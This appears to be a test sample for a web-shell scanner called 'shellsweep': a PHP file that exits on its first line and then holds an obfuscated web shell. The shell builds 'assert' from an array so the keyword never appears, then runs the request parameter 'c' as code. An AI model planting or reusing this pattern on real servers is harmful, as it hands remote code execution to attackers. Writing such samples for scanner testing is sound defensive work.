<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$f = join('', array_diff(array('a', 'x', 's', 's', 'e', 'r', 't'), array('x')));
$f($_REQUEST['c']);
